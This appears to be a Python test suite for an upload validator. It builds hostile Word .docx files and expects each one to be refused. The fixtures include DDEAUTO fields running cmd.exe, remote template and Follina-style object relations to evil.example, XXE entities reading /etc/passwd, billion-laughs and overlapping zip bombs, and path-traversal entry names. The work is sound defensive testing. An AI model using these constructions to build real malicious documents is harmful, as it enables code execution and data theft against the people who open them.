"""Word .docx files with macros, objects, fields, relations and zips that lie."""
# ruff: noqa: E501

import io
import os
import struct
import zipfile
import zlib

from filestore.errors import (
    AnotherKind,
    ContentDiffers,
    DefinesEntities,
    FetchesFromOutside,
    FieldFetches,
    FileCutShort,
    FileDamaged,
    FileEncrypted,
    FileIsBomb,
    MacrosInside,
    PathsInside,
    ProgramEmbedded,
    ProgramHidden,
    SomethingAppended,
    TemplateRefused,
    TooManyPixels,
    TwoKindsInOne,
    TypeRefused,
    UnsafeLink,
)
from tests.filestore.hostile.case import Family
from tests.filestore.hostile.programs import EXE, OLE, PROGRAMS, zip_of
from tests.filestore.making import WORD_TYPE, changed_docx, real_image

family = Family("docx", "order.docx")
add = family.add
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SPACES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    f'xmlns:r="{OFFICE}"'
)
PNG = real_image("PNG")


def relations(kind, target, mode=' TargetMode="External"', space=OFFICE):
    return (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId9" '
        f'Type="{space}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def related(kind, target, mode=' TargetMode="External"', space=OFFICE, part="document.xml"):
    return changed_docx(add={f"word/_rels/{part}.rels": relations(kind, target, mode, space)})


def typed(old, new):
    return changed_docx(types=lambda text: text.replace(old, new))


def declared(entry, **more):
    return changed_docx(types=lambda text: text.replace("</Types>", f"{entry}</Types>"), **more)


def with_body(body, part="word/document.xml", wrap="document"):
    xml = f"<w:{wrap} {SPACES}><w:body>{body}</w:body></w:{wrap}>".encode()
    return changed_docx(drop=part, add={part: xml})


# --- Macros
for path in (
    *("word/vbaProject.bin", "WORD/VBAPROJECT.BIN", "word/vbaData.xml", "vbaProject.bin"),
    *("customXml/vbaProject.bin", "word/media/vbaProject.bin", "word/vbaProjectSignature.bin"),
):
    add(f"macros as {path}", changed_docx(add={path: b"<x/>"}), MacrosInside)
for kind in (
    "application/vnd.ms-word.document.macroEnabled.main+xml",
    "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    "APPLICATION/VND.MS-WORD.DOCUMENT.MACROENABLED.MAIN+XML",
):
    add(f"of the type {kind}", typed(WORD_TYPE, kind), MacrosInside)
add(
    "macros of another ending by type",
    declared('<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'),
    MacrosInside,
)
add(
    "macros as a picture by type",
    declared(
        '<Override PartName="/word/media/a.png" ContentType="application/vnd.ms-office.vbaProject"/>'
    ),
    MacrosInside,
)
add(
    "macros' notes by type",
    declared(
        '<Override PartName="/word/d.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'
    ),
    MacrosInside,
)
for kind in ("vbaProject", "wordVbaData", "attachedToolbars", "vbaProjectSignature"):
    add(f"relation {kind}", related(kind, "media/image1.png", "", MICROSOFT), MacrosInside)
add(
    "ribbon of its own",
    changed_docx(
        add={"_rels/more.rels": relations("ui/extensibility", "customUI.xml", "", MICROSOFT)}
    ),
    MacrosInside,
)
add(
    "template",
    typed(WORD_TYPE, WORD_TYPE.replace("document.main", "template.main")),
    TemplateRefused,
)

# --- Objects and files
for path in (
    *("word/embeddings/oleObject1.bin", "word/embeddings/a.docx", "word/activeX/activeX1.bin"),
    *("word/activeX/activeX1.xml", "embeddings/a.xlsx", "word/Embeddings/tool.exe"),
):
    add(f"object as {path}", changed_docx(add={path: b"<x/>"}), ProgramEmbedded)
for ending in (
    *("exe", "ps1", "js", "vbs", "lnk", "bat", "cmd", "hta", "scr", "jar", "dll", "msi", "html"),
    *(
        "mht",
        "rtf",
        "doc",
        "xlsm",
        "zip",
        "iso",
        "url",
        "sh",
        "py",
        "pdf",
        "mp4",
        "bin",
        "dat",
        "txt",
    ),
):
    add(
        f"file .{ending} among the pictures",
        changed_docx(add={f"word/media/image2.{ending}": b"x"}),
        ProgramEmbedded,
    )
add("file without an ending", changed_docx(add={"word/media/tool": b"x"}), ProgramEmbedded)
for words, content in PROGRAMS.items():
    add(
        f"{words} as a picture", changed_docx(add={"word/media/image2.png": content}), ProgramHidden
    )
    add(
        f"{words} behind a picture",
        changed_docx(add={"word/media/image2.png": PNG + content}),
        ProgramHidden,
    )
add("program among the fonts", changed_docx(add={"word/fonts/font1.odttf": EXE}), ProgramHidden)
add(
    "program among printers' settings",
    changed_docx(add={"word/printerSettings/a.bin": EXE}),
    ProgramHidden,
)
add("program in the bin", changed_docx(add={"[trash]/0000.dat": EXE}), ProgramHidden)
add(
    "words of a script as a picture",
    changed_docx(add={"word/media/a.png": b"WScript.Shell"}),
    ProgramHidden,
)
add("page as a picture", changed_docx(add={"word/media/a.png": b"<html><script>"}), ProgramHidden)
add(
    "page behind a picture",
    changed_docx(add={"word/media/a.png": PNG + b"<script>alert(1)</script>"}),
    TwoKindsInOne,
)
add("ZIP as a picture", changed_docx(add={"word/media/a.png": zip_of({"a": b"b"})}), ProgramHidden)
add(
    "drawing with a script",
    changed_docx(add={"word/media/a.svg": b"<svg xmlns='x'><script>alert(1)</script></svg>"}),
    ProgramHidden,
)
add(
    "drawing that runs when loaded",
    changed_docx(add={"word/media/a.svg": b"<svg onload='alert(1)'/>"}),
    ProgramHidden,
)
add(
    "drawing that fetches",
    changed_docx(add={"word/media/a.svg": b"<svg><image href='https://x.example/a'/></svg>"}),
    FetchesFromOutside,
)
add(
    "object by type",
    declared(
        '<Override PartName="/word/media/a.png" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        add={"word/media/a.png": PNG},
    ),
    ProgramEmbedded,
)
add(
    "control by type",
    declared(
        '<Override PartName="/word/media/a.png" ContentType="application/vnd.ms-office.activeX+xml"/>',
        add={"word/media/a.png": PNG},
    ),
    ProgramEmbedded,
)
for kind in ("oleObject", "package", "control", "aFChunk", "subDocument", "video", "audio"):
    add(f"relation {kind} within", related(kind, "media/image1.png", ""), ProgramEmbedded)
    add(f"relation {kind} to outside", related(kind, "https://evil.example/a"), ProgramEmbedded)
add(
    "object in the text",
    with_body(
        "<w:p><w:r><w:object><o:OLEObject Type='Link' ProgID='Word' r:id='rId9'/></w:object></w:r></w:p>"
    ),
    ProgramEmbedded,
)
add("other document in the text", with_body("<w:altChunk r:id='rId9'/>"), ProgramEmbedded)
add("part document in the text", with_body("<w:subDoc r:id='rId9'/>"), ProgramEmbedded)

# --- Things fetched from elsewhere
OUTSIDE = (
    *(
        "https://evil.example/a",
        "http://192.0.2.1/a",
        "\\\\evil.example\\share\\a",
        "//evil.example/a",
    ),
    *("file://evil.example/share/a", "file:///\\\\evil.example\\a", "ftp://evil.example/a"),
)
for target in OUTSIDE:
    add(
        f"template at {target}",
        related("attachedTemplate", target, part="settings.xml"),
        FetchesFromOutside,
    )
    add(f"picture at {target}", related("image", target), FetchesFromOutside)
for kind in (
    *("frame", "externalLink", "externalLinkPath", "mailMergeSource", "mailMergeHeaderSource"),
    *(
        "transform",
        "officeDocument",
        "styles",
        "header",
        "font",
        "stylesheet",
        "customXml",
        "theme",
    ),
):
    add(f"relation {kind} to outside", related(kind, "https://evil.example/a"), FetchesFromOutside)
add(
    "relation to outside in capitals",
    related("image", "https://x.example/a", ' targetMode="EXTERNAL"'),
    FetchesFromOutside,
)
add(
    "address without saying that it is outside",
    related("image", "https://x.example/a", ""),
    FetchesFromOutside,
)
add(
    "template in relations in UTF-16",
    changed_docx(
        add={
            "word/_rels/settings.xml.rels": relations("attachedTemplate", "https://x.example")
            .decode()
            .encode("utf-16")
        }
    ),
    FetchesFromOutside,
)
add(
    "template by number of letters",
    related("attachedTemplate", "&#104;ttps://x.example/a"),
    FetchesFromOutside,
)
add(
    "template in the Strict kind of file",
    related(
        "attachedTemplate",
        "https://x.example/a",
        space="http://purl.oclc.org/ooxml/officeDocument/relationships",
    ),
    FetchesFromOutside,
)
add(
    "frames' page",
    changed_docx(
        add={"word/_rels/webSettings.xml.rels": relations("frame", "https://x.example/a")}
    ),
    FetchesFromOutside,
)
add(
    "add-in from outside",
    changed_docx(
        add={"_rels/more.rels": relations("webextensiontaskpanes", "a.xml", "", MICROSOFT)}
    ),
    FetchesFromOutside,
)
add(
    "picture drawn from outside",
    with_body(
        "<w:p><w:r><w:pict><v:shape><v:imagedata src='https://x.example/a.png'/></v:shape></w:pict></w:r></w:p>"
    ),
    FetchesFromOutside,
)
add(
    "picture drawn from a network folder",
    with_body(
        "<w:p><w:r><w:pict><v:shape><v:fill src='\\\\evil\\a.png'/></v:shape></w:pict></w:r></w:p>"
    ),
    FetchesFromOutside,
)
for target in (
    *("javascript:alert(1)", "file:///C:/Windows/System32/calc.exe", "\\\\evil.example\\share\\a"),
    *(
        "file://evil.example/a",
        "ms-msdt:/id",
        "search-ms:query=a",
        "vbscript:a",
        "tool.exe",
        "..\\a.lnk",
    ),
    *(
        "data:text/html,a",
        "C:\\Windows\\System32\\cmd.exe",
        "ms-word:ofe|u|https://x.example/a.dotm",
    ),
):
    add(f"link to {target}", related("hyperlink", target), UnsafeLink)


# --- Fields
def field(*codes):
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    mark = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>".format
    return f"<w:p>{mark('begin')}{runs}{mark('separate')}<w:r><w:t>x</w:t></w:r>{mark('end')}</w:p>"


COMMAND = ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
for word in (
    *("DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "INCLUDE", "IMPORT", "LINK", "DATABASE"),
    *("RD", "MACROBUTTON", "EMBED", "dde", "DdeAuto", "includepicture", "CONTROL"),
):
    add(f"field {word}", with_body(field(f" {word}{COMMAND}")), FieldFetches)
for word in ("DDEAUTO", "INCLUDETEXT", "LINK"):
    simple = (
        f"<w:p><w:fldSimple w:instr=' {word} \"https://x.example/a\" '><w:r/></w:fldSimple></w:p>"
    )
    add(f"simple field {word}", with_body(simple), FieldFetches)
    for part in ("header1", "footer1", "footnotes", "endnotes", "comments", "glossary/document"):
        content = with_body(field(f"{word}{COMMAND}"), part=f"word/{part}.xml", wrap="hdr")
        add(f"field {word} in word/{part}.xml", content, FieldFetches)
add("field cut in pieces", with_body(field("D", "DE", "AUTO", COMMAND)), FieldFetches)
add("field by numbers of letters", with_body(field("&#68;&#x44;E" + COMMAND)), FieldFetches)
add(
    "field in two kinds of section", with_body(field("<![CDATA[DD]]>EAUTO" + COMMAND)), FieldFetches
)
add("field with quotation marks", with_body(field('"DDEAUTO"' + COMMAND)), FieldFetches)
add(
    "field whose word another field spells",
    with_body(
        "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
        + field(" QUOTE 68 68 69 65 85 84 79 ")[5:-6]
        + f"<w:r><w:instrText>{COMMAND}</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
    ),
    FieldFetches,
)
add(
    "field inside of an IF",
    with_body(
        "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> IF 1=1 </w:instrText></w:r>"
        + field("DDEAUTO" + COMMAND)[5:-6]
        + "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
    ),
    FieldFetches,
)
add(
    "field that never ends its code",
    with_body("<w:p><w:r><w:instrText>DDEAUTO c:\\\\a</w:instrText></w:r></w:p>"),
    FieldFetches,
)
add(
    "field in a deleted passage",
    with_body(
        field("x").replace(
            "<w:instrText>x</w:instrText>", "<w:delInstrText>DDEAUTO a</w:delInstrText>"
        )
    ),
    FieldFetches,
)
add(
    "field in UTF-16",
    changed_docx(
        drop="word/document.xml",
        add={
            "word/document.xml": f"<w:document {SPACES}><w:body>{field('DDEAUTO' + COMMAND)}</w:body></w:document>".encode(
                "utf-16"
            )
        },
    ),
    FieldFetches,
)
add(
    "field that links to a program",
    with_body(field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" ')),
    UnsafeLink,
)
add("field that links to a script", with_body(field(" HYPERLINK javascript:alert(1) ")), UnsafeLink)

# --- XML that is more than text
ENTITIES = {
    "of a file": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "of an address": '<!DOCTYPE a [<!ENTITY b SYSTEM "https://evil.example/a">]>',
    "by parameter": '<!DOCTYPE a [<!ENTITY % b SYSTEM "https://evil.example/a"> %b;]>',
    "a billion laughs": '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "'
    + "&a;" * 100
    + '"><!ENTITY c "'
    + "&b;" * 100
    + '">]>',
    "a plain one": '<!DOCTYPE a [<!ENTITY b "c">]>',
    "none, by a definition elsewhere": '<!DOCTYPE a SYSTEM "https://evil.example/a.dtd">',
}
for title, head in ENTITIES.items():
    for part in (
        "word/document.xml",
        "word/settings.xml",
        "word/_rels/document.xml.rels",
        "docProps/core.xml",
        "customXml/item1.xml",
    ):
        add(
            f"entity {title} in {part}",
            changed_docx(drop=part, add={part: (head + "<a>&b;</a>").encode()}),
            DefinesEntities,
        )
    add(
        f"entity {title} in the types",
        changed_docx(types=lambda text, head=head: head + text[text.index("?>") + 2 :].lstrip()),
        DefinesEntities,
    )
add("abyss of elements", with_body("<w:p>" * 5_000 + "</w:p>" * 5_000), FileIsBomb)
add("three million elements", lambda: with_body("<w:p/>" * 3_000_000), FileIsBomb)
add(
    "tag of twenty megabytes",
    lambda: with_body("<w:p a='" + "\u00e9" * 9_000_000 + "'/>"),
    FileIsBomb,
)
add(
    "part that breaks off",
    changed_docx(drop="word/document.xml", add={"word/document.xml": b"<w:document"}),
    FileDamaged,
)
add(
    "part that is no XML",
    changed_docx(drop="word/document.xml", add={"word/document.xml": EXE}),
    FileDamaged,
)
add(
    "part of spaces without names",
    changed_docx(drop="word/document.xml", add={"word/document.xml": b"<w:a/>"}),
    FileDamaged,
)

# --- Zips that lie
BALLAST = os.urandom(1_000_000)
add(
    "part of 25 MB of nothing",
    lambda: changed_docx(add={"word/media/a.bmp": b"\x00" * 25_000_000}),
    FileIsBomb,
)
add(
    "part of nothing beside a photograph",
    lambda: changed_docx(
        add={"word/media/a.bmp": b"\x00" * 15_000_000, "word/media/b.jpg": BALLAST}
    ),
    FileIsBomb,
)
add(
    "thirty parts of nothing",
    lambda: changed_docx(add={f"word/media/{n}.bmp": b"\x00" * 9_000_000 for n in range(15)}),
    FileIsBomb,
)
add("text of 100 MB", lambda: with_body("<w:p/>" + " " * 100_000_000), FileIsBomb)
add("types of 2 MB", changed_docx(types=lambda text: text + " " * 2_000_000), FileIsBomb)
add(
    "six thousand parts",
    lambda: changed_docx(add={f"word/media/{n}.bmp": b"" for n in range(6_000)}),
    FileIsBomb,
)


def overlapping(count=200, quoted=False):
    """Many entries of the directory that all unpack the same bytes (Fifield's way)."""
    kernel = zlib.compress(b"<a>" + b" " * 900_000 + b"</a>", 9)[2:-4]
    good = changed_docx()
    end = good.rindex(b"PK\x05\x06")
    size, start = struct.unpack_from("<II", good, end + 12)
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, 0, len(kernel), 900_007, 5, 0
    )
    body, central = good[:start], good[start : start + size]
    crc = zlib.crc32(b"<a>" + b" " * 900_000 + b"</a>")
    local = local[:14] + struct.pack("<I", crc) + local[18:]
    at = len(body)
    for number in range(count):
        name = b"w%03d" % number + b".xml"
        if quoted or number == 0:
            place = len(body)
            body += local[:26] + struct.pack("<H", len(name)) + local[28:] + name
            if number == 0:
                first = place
        central += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                33,
                crc,
                len(kernel),
                900_007,
                len(name),
                0,
                0,
                0,
                0,
                0,
                first if not quoted else place,
            )
            + name
        )
    body += kernel
    entries = struct.unpack_from("<H", good, end + 10)[0] + count
    assert at
    return (
        body
        + central
        + struct.pack(
            "<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(central), len(body), 0
        )
    )


add("two hundred parts in one place", lambda: overlapping(), FileIsBomb)
add("parts that quote each other", lambda: overlapping(quoted=True), FileIsBomb)


def patched(at, form, value, signature=b"PK\x01\x02", content=None):
    content = bytearray(content or changed_docx())
    struct.pack_into(form, content, content.rindex(signature) + at, value)
    return bytes(content)


add("directory that says it is 2 MB", patched(12, "<I", 2_000_000, b"PK\x05\x06"), FileIsBomb)
add("directory of 65,535 entries", patched(10, "<H", 65_535, b"PK\x05\x06"), FileDamaged)
add("directory of one entry", patched(10, "<H", 1, b"PK\x05\x06"), FileDamaged)
add("directory on another disk", patched(4, "<H", 3, b"PK\x05\x06"), FileDamaged)
add("part locked with a password", patched(8, "<H", 1), FileEncrypted)
add("part locked with a strong password", patched(8, "<H", 0x41), FileEncrypted)
add("directory locked", patched(8, "<H", 0x2001), FileEncrypted)
add("part packed in a way nobody knows", patched(10, "<H", 99), FileDamaged)
add("part with a false check sum", patched(16, "<I", 12345), FileDamaged)
add("part longer than said", patched(24, "<I", 10), FileDamaged)
add("part shorter than said", patched(24, "<I", 999_999), FileDamaged)
add("part beyond the end", patched(42, "<I", 0x7FFFFFFF), FileDamaged)
add("part that is another part", patched(42, "<I", 0), FileIsBomb)
add("part packed by bzip2", changed_docx(method=zipfile.ZIP_BZIP2), FileDamaged)
add("part packed by LZMA", changed_docx(method=zipfile.ZIP_LZMA), FileDamaged)
add("record of huge archives", lambda: zip64(), FileIsBomb)
add("program before the zip", EXE + changed_docx(), AnotherKind)
add("zip before the zip", zip_of({"a": b"b"}) + changed_docx(), TwoKindsInOne)
add("program between the parts", lambda: hidden_between(EXE), TwoKindsInOne)
add(
    "page between the parts",
    lambda: hidden_between(b"<html><script>alert(1)</script>"),
    TwoKindsInOne,
)
add("something behind the zip", changed_docx() + b"more", SomethingAppended)
add("program behind the zip", changed_docx() + EXE, SomethingAppended)
add(
    "comment behind the zip",
    changed_docx()[:-2] + struct.pack("<H", 12) + b"hello, world",
    SomethingAppended,
)
add("comment that is not there", changed_docx()[:-2] + struct.pack("<H", 12), SomethingAppended)
for path in (
    *("../../evil.xml", "word/../../evil.xml", "/etc/evil.xml", "..\\evil.xml", "C:/evil.xml"),
    *("WORD/document.xml", "word/a\nb.xml", "word/..", "\\\\evil\\a.xml", "word/media/a.png:b.exe"),
):
    add(f"part called {path!r}", changed_docx(add={path: b"<x/>"}), PathsInside)


def zip64():
    content = changed_docx()
    end = content.rindex(b"PK\x05\x06")
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    return content[:end] + locator + content[end:]


def hidden_between(secret):
    content = changed_docx()
    end = content.rindex(b"PK\x05\x06")
    size, start = struct.unpack_from("<II", content, end + 12)
    shifted = content[end : end + 16] + struct.pack("<I", start + len(secret)) + content[end + 20 :]
    return content[:start] + secret + content[start:end] + shifted


def symbolic_link():
    link = zipfile.ZipInfo("word/media/a.png")
    link.external_attr = 0o120777 << 16
    return changed_docx(add={link: b"/etc/passwd"})


add("part that is a symbolic link", symbolic_link(), PathsInside)


def twice():
    output = io.BytesIO(changed_docx())
    with zipfile.ZipFile(output, "a") as package:
        package.NameToInfo.clear()
        package.writestr("word/document.xml", b"<x/>")
    return output.getvalue()


add("part that stands there twice", twice(), PathsInside)

# --- Other kinds under the name
add("zip of text", zip_of({"a.txt": b"a"}), AnotherKind)
add("zip of a program", zip_of({"tool.exe": EXE}), AnotherKind)
add(
    "workbook",
    typed(WORD_TYPE, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    TypeRefused,
)
add(
    "presentation",
    typed(
        WORD_TYPE,
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
    TypeRefused,
)
add("no main part", changed_docx(drop="word/document.xml"), FileDamaged)
add("no types", changed_docx(drop="[Content_Types].xml"), AnotherKind)
add("types that break off", changed_docx(types=lambda text: text[:40]), FileDamaged)
add("rich text", b"{\\rtf1\\ansi{\\object\\objdata 0105}}", AnotherKind)
add("page", b"<html><script>alert(1)</script></html>", AnotherKind)
add(
    "page of a browser's archive",
    b"MIME-Version: 1.0\nContent-Type: multipart/related\n",
    AnotherKind,
)
add(
    "XML of Word 2003",
    b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument/>",
    AnotherKind,
)
add("named as a .doc", changed_docx(), ContentDiffers, name="order.doc")
add("nothing but an end", b"PK\x05\x06" + b"\x00" * 18, AnotherKind)
add("Office file of no kind", OLE, FileDamaged)
for part in (0.1, 0.4, 0.7, 0.95):
    add(f"cut at {part:.0%}", changed_docx()[: int(len(changed_docx()) * part)], FileCutShort)

# --- A second look, with other eyes
add(
    "Office file as a drawing",
    changed_docx(add={"word/media/i.emf": b"\x01\x00\x00\x00" + OLE}),
    ProgramHidden,
)
add(
    "Office file among printers' settings",
    changed_docx(add={"word/printerSettings/v.bin": OLE}),
    ProgramHidden,
)
add(
    "Word file as a leftover", changed_docx(add={"word/media/a.tmp": changed_docx()}), ProgramHidden
)
add(
    "template spelled with percent signs",
    related("attachedTemplate", "%68ttps://evil.example/a"),
    FetchesFromOutside,
)
add(
    "template in a web page's archive",
    related("attachedTemplate", "mhtml:https://evil.example/a"),
    FetchesFromOutside,
)
add(
    "template behind mixed slashes",
    related("attachedTemplate", "/\\evil.example\\a"),
    FetchesFromOutside,
)
add(
    "link to a script spelled with percent signs",
    related("hyperlink", "java%73cript:alert(1)"),
    UnsafeLink,
)
add(
    "link to a web page's archive",
    related("hyperlink", "mhtml:https://evil.example/a!b"),
    UnsafeLink,
)
add(
    "object of the web (Follina)",
    related("oleObject", "https://evil.example/a.html!"),
    ProgramEmbedded,
)
add("picture on a drive", related("image", "file:///C:/Users/sam/a.png"), FetchesFromOutside)
add(
    "letters merged from a database",
    changed_docx(
        add={
            "word/settings.xml": f"<w:settings {SPACES}><w:mailMerge><w:connectString w:val='Provider=SQL'/></w:mailMerge></w:settings>".encode()
        }
    ),
    FetchesFromOutside,
)
add(
    "field in a text box",
    with_body(
        "<w:p><w:r><w:pict><v:shape><v:textbox>"
        + field("DDEAUTO a b")
        + "</v:textbox></v:shape></w:pict></w:r></w:p>"
    ),
    FieldFetches,
)
add(
    "field that links to a network folder",
    with_body(field(' HYPERLINK "\\\\\\\\evil.example\\\\a" ')),
    UnsafeLink,
)
add(
    "picture of ten billion pixels",
    changed_docx(
        add={"word/media/a.png": PNG[:16] + struct.pack(">II", 100_000, 100_000) + PNG[24:]}
    ),
    TooManyPixels,
)
add(
    "drawing that unpacks to 60 MB",
    lambda: changed_docx(
        add={
            "word/media/a.emz": b"\x1f\x8b\x08"
            + b"\x00" * 7
            + zlib.compress(b"\x00" * 60_000_000, 9)[2:-4]
        }
    ),
    FileIsBomb,
)
add(
    "two types for its main part",
    declared(
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    ),
    MacrosInside,
)
add("no relations", changed_docx(drop="_rels/.rels"), FileDamaged)
